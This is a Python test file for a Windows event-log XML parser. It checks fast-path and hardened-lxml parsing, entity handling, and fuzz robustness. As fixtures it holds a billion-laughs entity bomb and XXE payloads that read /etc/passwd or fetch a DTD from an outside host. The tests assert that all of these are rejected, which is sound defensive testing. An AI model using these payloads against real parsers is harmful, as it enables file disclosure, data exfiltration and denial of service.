"""XML event parsing: fast path vs hardened lxml, entities, hostile input, fuzzing."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ingest.windows import parse_xml_event, parse_xml_events
from ingest.windows.classic import iter_classic_events
from ingest.windows.xml import (
    UnsafeXmlError,
    WinRecord,
    XmlEventError,
    _full,
    hardened_parser,
    iter_xml_events,
    parse_xml_record,
)
from tests.ingest.windows.fixtures import render_classic, render_xml

NS = "http://schemas.microsoft.com/win/2004/08/events/event"


def make_record(event_id: int = 4624, **data: str | None) -> WinRecord:
    """A Security record with the given EventData."""
    channel = "System" if event_id == 7045 else "Security"
    if event_id in (1, 3):
        channel = "Microsoft-Windows-Sysmon/Operational"
    return WinRecord(
        event_id=event_id,
        system_time="2024-05-01T10:00:07.1234567Z",
        record_id=4711,
        channel=channel,
        computer="ws1.corp.local",
        provider="Microsoft-Windows-Security-Auditing",
        data=dict(data),
        source="t.xml",
        record=4711,
    )


LOGON = make_record(
    4624,
    SubjectUserName="-",
    TargetUserName="Alice",
    TargetDomainName="CORP",
    TargetLogonId="0x00000000001D313D",
    LogonType="3",
    AuthenticationPackageName="NTLM",
    WorkstationName="WS2",
    IpAddress="10.0.0.2",
    IpPort="49152",
    CommandLine=None,
)

PYEVTX_STYLE = (
    f'<Event xmlns="{NS}"><System><Provider Name="Microsoft-Windows-Security-Auditing" '
    'Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"></Provider>\n'
    '<EventID Qualifiers="">4624</EventID>\n<Version>2</Version>\n'
    '<TimeCreated SystemTime="2019-03-18 22:15:36.036375+00:00"></TimeCreated>\n'
    "<EventRecordID>563265</EventRecordID>\n<Channel>Security</Channel>\n"
    '<Computer>WIN-77.example.corp</Computer>\n<Security UserID=""></Security>\n</System>\n'
    '<EventData><Data Name="TargetUserName">bob &amp; co &lt;x&gt;&#10;2</Data>\n'
    '<Data Name="WorkstationName"></Data>\n<Data Name="LogonType">3</Data>\n'
    "</EventData>\n</Event>"
)

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>
<EventID>4624</EventID><TimeCreated SystemTime="2024-01-01T00:00:00Z"/>
<Computer>X</Computer></System><EventData><Data Name="TargetUserName">&lol4;</Data>
</EventData></Event>"""

XXE_FILE = (
    '<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    f'<Event xmlns="{NS}"><System><EventID>4624</EventID>'
    '<TimeCreated SystemTime="2024-01-01T00:00:00Z"/><Computer>X</Computer></System>'
    '<EventData><Data Name="TargetUserName">&xxe;</Data></EventData></Event>'
)
XXE_HTTP = XXE_FILE.replace("file:///etc/passwd", "http://203.0.113.9/evil.dtd")
XXE_PARAM = XXE_FILE.replace(
    '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
    '<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;',
)


def test_fast_path_equals_lxml_path_on_splunk_style() -> None:
    line = render_xml(LOGON)
    fast = parse_xml_record(line, source="t.xml")
    full = _full(line, "t.xml", None)
    assert fast == full
    assert fast.event_id == 4624
    assert fast.record_id == 4711 and fast.record == 4711
    assert fast.data["TargetUserName"] == "Alice"
    assert fast.data["CommandLine"] is None or fast.data["CommandLine"] == ""
    assert fast.computer == "ws1.corp.local"


def test_python_evtx_style_with_entities_and_newlines() -> None:
    rec = parse_xml_record(PYEVTX_STYLE, source="f.evtx")
    assert rec == _full(PYEVTX_STYLE, "f.evtx", None)
    assert rec.data["TargetUserName"] == "bob & co <x>\n2"
    assert rec.data["WorkstationName"] in ("", None)
    assert rec.system_time.startswith("2019-03-18 22:15:36")
    assert rec.record == 563265


def test_system_fields_in_another_order_still_parse() -> None:
    line = render_xml(LOGON)
    computer = "<Computer>ws1.corp.local</Computer>"
    moved = line.replace(computer, "").replace("<System>", "<System>" + computer)
    assert moved != line
    assert parse_xml_record(moved, source="t.xml") == parse_xml_record(line, source="t.xml")
    assert parse_xml_record(moved, source="t.xml") == _full(moved, "t.xml", None)


def test_unknown_entity_goes_to_lxml_and_is_rejected() -> None:
    bad = render_xml(LOGON).replace("Alice", "Al&nbsp;ice")
    with pytest.raises(XmlEventError, match="malformed"):
        parse_xml_record(bad, source="t.xml", record=3)


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE_FILE, XXE_HTTP, XXE_PARAM])
def test_hostile_documents_are_rejected(doc: str) -> None:
    with pytest.raises(UnsafeXmlError, match="DOCTYPE/ENTITY"):
        parse_xml_record(doc, source="evil.xml")
    with pytest.raises(UnsafeXmlError):
        parse_xml_event(doc, source="splunk:1", record=0)


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE_FILE, XXE_HTTP])
def test_hardened_parser_neither_expands_nor_fetches(doc: str) -> None:
    # Defence in depth: even without the DOCTYPE pre-check, nothing is expanded or read.
    from lxml import etree

    try:
        root = etree.fromstring(doc.encode(), hardened_parser())
    except etree.XMLSyntaxError:
        return
    text = "".join(root.itertext())
    assert "root:" not in text
    assert "lollol" not in text
    with pytest.raises(UnsafeXmlError):
        _full(doc, "evil.xml", 1)


def test_stream_reads_past_hostile_and_broken_events() -> None:
    good = render_xml(LOGON)
    lines = [good, *BILLION_LAUGHS.splitlines(), good[:200], XXE_HTTP, good, "junk"]
    results = list(iter_xml_events(lines, source="mix.xml"))
    records = [r.record for r in results if r.record is not None]
    errors = [r.error for r in results if r.error is not None]
    assert len(records) == 2
    assert sum(isinstance(e, UnsafeXmlError) for e in errors) == 2
    assert any(not isinstance(e, UnsafeXmlError) for e in errors)


def test_multiline_event_is_joined() -> None:
    rec = make_record(1, CommandLine='powershell -c "a"\nsecond line', Image="C:\\x.exe")
    text = render_xml(rec)
    assert "\n" in text
    (out,) = list(iter_xml_events(text.splitlines(keepends=True), source="m.xml"))
    assert out.error is None
    assert out.record.data["CommandLine"] == 'powershell -c "a"\nsecond line'
    assert out.line == 1


def test_parse_xml_event_gives_frames_with_provenance() -> None:
    parsed = parse_xml_event(render_xml(LOGON), source="splunk:sid42", record=7)
    assert parsed.process.height == 0
    row = parsed.auth.row(0, named=True)
    assert row["source"] == "splunk:sid42" and row["record"] == 7
    assert row["src_host"] == "WS2" and row["dst_host"] == "WS1"
    frames, skipped = parse_xml_events(
        [render_xml(LOGON), XXE_FILE, "<Event>"], source="splunk:s", first_record=10
    )
    assert frames.auth["record"].to_list() == [10]
    assert skipped == {"unsafe xml (DTD/entity declaration)": 1, "malformed xml": 1}


def test_unsupported_event_has_no_data_and_maps_to_nothing() -> None:
    rec = make_record(4699, TaskName="\\x")
    parsed = parse_xml_event(render_xml(rec), source="s")
    assert parsed.auth.height == 0 and parsed.process.height == 0
    assert parse_xml_record(render_xml(rec)).data == {}


FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
XML_ALPHABET = st.sampled_from(list("<>/=\"' &;#!x\n\tEventDataNme0123456789abc?[]-%"))


@FUZZ
@given(st.text(alphabet=XML_ALPHABET, max_size=300))
def test_fuzz_random_text_never_crashes(text: str) -> None:
    try:
        rec = parse_xml_record(text, source="fuzz")
    except XmlEventError:
        return
    assert isinstance(rec, WinRecord)


@FUZZ
@given(st.integers(min_value=0, max_value=10_000), st.booleans())
def test_fuzz_truncated_records_never_crash(cut: int, classic: bool) -> None:
    if classic:
        text = render_classic(LOGON)[:cut]
        for rec, err, _ in iter_classic_events(text.splitlines(), source="c"):
            assert (rec is None) != (err is None)
        return
    line = render_xml(LOGON)
    text = line[: cut % (len(line) + 1)]
    try:
        rec = parse_xml_record(text, source="fuzz")
    except XmlEventError:
        return
    assert text.rstrip().endswith("</Event>") and rec.event_id == 4624


@FUZZ
@given(st.lists(st.text(max_size=80), max_size=30))
def test_fuzz_streams_of_random_lines(lines: list[str]) -> None:
    for out in iter_xml_events(lines, source="fz"):
        assert (out.record is None) != (out.error is None)
    for rec, err, _ in iter_classic_events(["01/02/2024 10:00:00 AM", *lines], source="fz"):
        assert (rec is None) != (err is None)


@FUZZ
@given(
    st.dictionaries(
        st.sampled_from(["TargetUserName", "IpAddress", "WorkstationName", "LogonType"]),
        st.text(max_size=40),
    )
)
def test_fuzz_values_round_trip_through_fast_path(values: dict[str, str]) -> None:
    clean = {
        k: "".join(c for c in v if c.isprintable() and c not in "\r") for k, v in values.items()
    }
    rec = make_record(4624, **clean)
    parsed = parse_xml_record(render_xml(rec), source="t.xml")
    for k, v in clean.items():
        assert (parsed.data.get(k) or "") == v
